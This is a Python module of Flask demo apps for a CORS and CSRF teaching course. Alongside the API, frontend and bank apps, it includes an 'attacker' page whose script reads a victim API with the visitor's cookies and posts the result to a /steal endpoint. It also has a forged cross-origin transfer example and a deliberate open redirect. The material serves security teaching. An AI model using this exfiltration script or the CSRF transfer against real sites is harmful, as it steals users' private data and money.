"""Ready-made Flask apps for the lessons: a JSON API, a frontend page, and an attacker's page.

Each returns a fresh Flask app; pass it to `serve` (a free port), or to `cors_lab.course.serve_teaching` (the
lesson's port for that server, from `cors_lab.course.PORTS`):

    from cors_lab.course import FRONTEND, serve_teaching
    api = serve_teaching(api_app(), "api", policy=CorsPolicy(allow_origins=[FRONTEND]))
"""
from __future__ import annotations

import json
import secrets
from html import escape

from flask import Flask, jsonify, redirect, request

from cors_lab.policy import CorsPolicy
from cors_lab.server.flask_policy import install, is_preflight

USERS = {"alice": {"user": "alice", "email": "alice@example.com", "balance": 1250}}


def api_app(policy: CorsPolicy | None = None) -> Flask:
    """A small JSON API. Without a policy it sends no CORS headers at all (where every lesson starts).

        >>> from cors_lab.course import FRONTEND                             # the lesson's page origin
        >>> api = serve(api_app(), name="api")
        >>> Browser(origin=FRONTEND).fetch(api.url + "/api/public")
        <FetchResult blocked: ...>
        >>> api.policy = CorsPolicy(allow_origins=[FRONTEND])                    # now it answers with CORS
        >>> api_app(CorsPolicy.allow_all())                                      # or give the policy at once

    ===============================  ===========================================================
    ``GET /api/public``              public data
    ``GET|POST /login?user=alice``   logs in: sets the ``sid`` session cookie (SameSite=Lax)
    ``GET /api/private``             the logged-in user's data; 401 without the cookie
    ``GET /api/items``               the items; ``PUT`` / ``DELETE /api/items/<id>`` change them
    ``POST /api/echo``               echoes the JSON body and its Content-Type
    ``GET /api/custom-headers``      sends X-Request-Id and X-RateLimit-Remaining
    ``GET /api/redirect?to=URL``     302 to URL (for example another origin)
    ``GET /api/status/<code>``       answers with that status (404, 500, ...)
    ===============================  ===========================================================
    """
    app = Flask("api")
    sessions: dict[str, str] = {}
    items: dict[str, dict] = {"1": {"id": "1", "name": "apple"}, "2": {"id": "2", "name": "pear"}}

    @app.get("/api/public")
    def public():
        return jsonify(message="Hello from the API", public=True)

    @app.route("/login", methods=["GET", "POST"])
    def login():
        body = request.get_json(silent=True) or {}
        user = request.args.get("user") or body.get("user") or "alice"
        if user not in USERS:
            return jsonify(error=f"unknown user {user!r}"), 403
        sid = secrets.token_hex(8)
        sessions[sid] = user
        response = jsonify(logged_in=user)
        response.set_cookie("sid", sid, samesite="Lax", httponly=True)
        return response

    @app.get("/api/private")
    def private():
        user = sessions.get(request.cookies.get("sid", ""))
        if user is None:
            return jsonify(error="not logged in"), 401
        return jsonify(USERS[user])

    @app.get("/api/items")
    def list_items():
        return jsonify(list(items.values()))

    @app.route("/api/items/<item_id>", methods=["PUT", "DELETE"])
    def change_item(item_id: str):
        if request.method == "DELETE":
            items.pop(item_id, None)
            return jsonify(deleted=item_id)
        items[item_id] = {"id": item_id, **(request.get_json(silent=True) or {})}
        return jsonify(items[item_id])

    @app.post("/api/echo")
    def echo():
        return jsonify(content_type=request.content_type, body=request.get_json(silent=True))

    @app.get("/api/custom-headers")
    def custom_headers():
        response = jsonify(message="look at my headers")
        response.headers["X-Request-Id"] = "req-42"
        response.headers["X-RateLimit-Remaining"] = "99"
        return response

    @app.get("/api/redirect")
    def redirect_elsewhere():
        return redirect(request.args.get("to", "/api/public"), code=302)

    @app.get("/api/status/<int:code>")
    def status(code: int):
        return jsonify(status=code), code

    return install(app, policy)


def token_api_app(policy: CorsPolicy | None = None, auth_guards_preflight: bool = True,
                  token: str = "secret-token") -> Flask:
    """An API behind token auth (``Authorization: Bearer <token>`` on every ``/api/...`` request).

        >>> policy = CorsPolicy(allow_origins=[FRONTEND], allow_headers=["authorization"])
        >>> api = serve(token_api_app(policy), name="token-api")
        >>> Browser(origin=FRONTEND).fetch(
        ...     api.url + "/api/orders", headers={"Authorization": "Bearer secret-token"})
        <FetchResult blocked: ...>                                  # the preflight got 401
        >>> api = serve(token_api_app(policy, auth_guards_preflight=False), name="token-api")
        >>> Browser(origin=FRONTEND).fetch(
        ...     api.url + "/api/orders", headers={"Authorization": "Bearer secret-token"})
        <FetchResult cors 200>

    ``GET|POST /api/orders`` answers the orders to a request with the token, 401 to any other.
    ``auth_guards_preflight=True`` is the classic bug: the auth check also runs on the CORS preflight, which
    never carries an Authorization header, so every preflight gets 401 and the browser blocks the real request.
    ``False`` lets *preflights only* past the auth check: they are answered by the CORS policy with headers and
    no data, so nothing is exposed; any other request (including a plain OPTIONS) still needs the token.
    """
    app = Flask("token_api")

    @app.before_request
    def require_token():
        if not request.path.startswith("/api/"):
            return None
        if not auth_guards_preflight and is_preflight():
            return None  # answered by the CORS policy: headers only, no data
        if request.headers.get("Authorization") != f"Bearer {token}":
            return jsonify(error="missing or wrong token"), 401
        return None

    @app.route("/api/orders", methods=["GET", "POST", "OPTIONS"])
    def orders():
        if request.method == "OPTIONS":
            return "", 204
        return jsonify(orders=[{"id": 7, "item": "coffee"}])

    return install(app, policy)


def page_app(title: str = "Frontend", api_url: str | None = None) -> Flask:
    """The frontend: a static page at the "page origin" whose script calls the API.

        >>> page = serve_teaching(page_app(api_url=api.url), "page")
        >>> print(page.url)        # open it in your own browser, click the button, read the DevTools console
        http://localhost:...

    ``GET /`` is the page: it shows its own origin and has a button that fetches ``api_url + "/api/public"``
    (default: the lesson's API, `cors_lab.course.API`).
    """
    api_url = _lesson_url("API", "") if api_url is None else api_url
    app = Flask("page")

    @app.get("/")
    def index():
        return _page(
            title,
            f"""<p>This page lives at <code id="origin"></code> and calls <code>{escape(api_url)}</code>.</p>
<button onclick="go()">fetch /api/public</button><pre id="out"></pre>
<script>
document.getElementById('origin').textContent = location.origin;
async function go() {{
  const out = document.getElementById('out');
  try {{ const r = await fetch({_js_string(api_url)} + '/api/public'); out.textContent = await r.text(); }}
  catch (e) {{ out.textContent = String(e) + ' (see the DevTools console)'; }}
}}
</script>""",
        )

    return app


def attacker_app(target_url: str | None = None) -> Flask:
    """An attacker's page: its script tries to read ``target_url`` with the visitor's cookies.

        >>> evil = serve_teaching(attacker_app(api.url + "/api/private"), "attacker")
        >>> Browser(origin=evil.origin).fetch(api.url + "/api/private", credentials="include")
        >>> evil.app.config["STOLEN"]          # [] while the API's policy does not trust this origin
        []

    ``target_url``: default the lesson's API's /api/private (`cors_lab.course.API`). What it manages to read is sent
    to ``POST /steal`` on the attacker's own server, so the attacker server's log (and ``app.config["STOLEN"]``)
    shows what leaked.
    """
    target_url = _lesson_url("API", "/api/private") if target_url is None else target_url
    app = Flask("attacker")
    app.config["STOLEN"] = []

    @app.get("/")
    def index():
        return _page(
            "Totally harmless page",
            f"""<p>Nothing to see here.</p><pre id="out"></pre>
<script>
fetch({_js_string(target_url)}, {{credentials: 'include'}})
  .then(r => r.text())
  .then(t => {{ document.getElementById('out').textContent = t;
               return fetch('/steal', {{method: 'POST', body: t}}); }})
  .catch(e => {{ document.getElementById('out').textContent = 'blocked: ' + e; }});
</script>""",
        )

    @app.post("/steal")
    def steal():
        app.config["STOLEN"].append(request.get_data(as_text=True))
        return "", 204

    return app


def _lesson_url(name: str, path: str) -> str:
    """The lesson's teaching origin ``name`` (`cors_lab.course.teaching`) + ``path``.

    Imported here, not at the top: the teaching ports are the course's, and cors_lab.course imports this module."""
    from cors_lab.course import teaching

    return getattr(teaching, name) + path


def _js_string(value: str) -> str:
    """``value`` as a JavaScript string literal that is safe inside an HTML ``<script>`` element.

    A URL is whatever the caller passed, so it may hold anything. ``json.dumps`` gives a valid JavaScript literal,
    and with ``ensure_ascii`` it escapes every non-ASCII character, U+2028 and U+2029 included (older JavaScript
    engines end a line, and so the literal, there). The HTML parser reads a script's text before JavaScript does:
    ``</script>`` in the value would end the script and ``<!--`` would change how the rest is read, so ``<`` and
    ``>`` are written as ``\\u`` escapes, which JavaScript reads back as the same characters; ``&`` too, so the
    literal holds no markup character at all (it stays safe where a parser does read entities, as in XHTML).
    """
    literal = json.dumps(str(value), ensure_ascii=True)
    return literal.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def _page(title: str, body: str) -> str:
    return (
        f"<!doctype html><html><head><meta charset='utf-8'><title>{escape(title)}</title></head>"
        f"<body><h1>{escape(title)}</h1>{body}</body></html>"
    )


def bank_app(policy: CorsPolicy | None = None, guard=None, csrf_tokens: bool = False) -> Flask:
    """A tiny bank for lesson 09's CSRF section: a session cookie, a balance, and POST /transfer.

        >>> bank = serve_teaching(bank_app(), "bank")
        >>> Browser(origin=ATTACKER).fetch(bank.url + "/transfer", method="POST",
        ...     headers={"Content-Type": "application/x-www-form-urlencoded"}, body="to=mallory&amount=100",
        ...     credentials="include")     # blocked by CORS, yet the bank moved the money (see GET /books)

    ===============================  ===========================================================
    ``GET|POST /login?user=alice``   logs in: sets the ``sid`` cookie (``&samesite=Strict|None``; default Lax)
    ``GET /balance``                 the logged-in user's balance; 401 without the cookie
    ``POST /transfer``               ``to`` and ``amount`` (form or JSON): moves money from the logged-in user
    ``GET /csrf-token``              the session's CSRF token (with ``csrf_tokens=True`` a transfer needs it)
    ``GET /books``                   the bank's books, for the lesson (no login): balances and transfers
    ===============================  ===========================================================

    ``guard(request)``: the server's own CSRF defence, called on every POST /transfer with Flask's ``request``
    before the transfer; it returns None to let it through or a sentence saying why it is refused (403).
    ``csrf_tokens=True``: a transfer must carry the session's token (header ``X-CSRF-Token`` or form field
    ``csrf_token``), which only a page allowed to *read* ``GET /csrf-token`` can learn.
    """
    app = Flask("bank")
    sessions: dict[str, str] = {}
    tokens: dict[str, str] = {}
    books = {"balances": {"alice": 1000, "mallory": 0}, "transfers": []}
    app.config["BOOKS"] = books

    def session_user():
        return sessions.get(request.cookies.get("sid", ""))

    @app.route("/login", methods=["GET", "POST"])
    def login():
        body = request.get_json(silent=True) or {}
        user = request.args.get("user") or body.get("user") or "alice"
        if user not in books["balances"]:
            return jsonify(error=f"unknown user {user!r}"), 403
        same_site = (request.args.get("samesite") or "Lax").capitalize()
        if same_site not in ("Lax", "Strict", "None"):
            return jsonify(error="samesite must be Lax, Strict or None"), 400
        sid = secrets.token_hex(8)
        sessions[sid], tokens[sid] = user, secrets.token_hex(8)
        response = jsonify(logged_in=user, samesite=same_site)
        # SameSite=None cookies must be Secure (browsers refuse them otherwise); http://localhost may set Secure ones
        response.set_cookie("sid", sid, samesite=same_site, httponly=True, secure=same_site == "None")
        return response

    @app.get("/balance")
    def balance():
        user = session_user()
        if user is None:
            return jsonify(error="not logged in"), 401
        return jsonify(user=user, balance=books["balances"][user])

    @app.get("/csrf-token")
    def csrf_token():
        if session_user() is None:
            return jsonify(error="not logged in"), 401
        return jsonify(token=tokens[request.cookies["sid"]])

    @app.post("/transfer")
    def transfer():
        user = session_user()
        if user is None:
            return jsonify(error="not logged in"), 401
        if guard is not None:
            try:
                refusal = guard(request)
            except Exception as exc:  # the learner's guard: its error is the answer, not a traceback
                return jsonify(error=f"the guard raised {type(exc).__name__}: {exc}"), 500
            if refusal:
                return jsonify(error=str(refusal)), 403
        data = request.get_json(silent=True) if request.is_json else request.form
        data = data or {}
        if csrf_tokens:
            sent = request.headers.get("X-CSRF-Token") or data.get("csrf_token")
            if sent != tokens.get(request.cookies["sid"]):
                return jsonify(error="missing or wrong CSRF token"), 403
        to, amount = str(data.get("to", "")), data.get("amount", 0)
        try:
            amount = int(amount)
        except (TypeError, ValueError):
            return jsonify(error="amount must be a whole number"), 400
        if to not in books["balances"] or amount <= 0:
            return jsonify(error="unknown payee or amount not positive"), 400
        books["balances"][user] -= amount
        books["balances"][to] += amount
        books["transfers"].append({"from": user, "to": to, "amount": amount, "origin": request.headers.get("Origin")})
        return jsonify(ok=True, balance=books["balances"][user])

    @app.get("/books")
    def show_books():
        return jsonify(books)

    return install(app, policy)
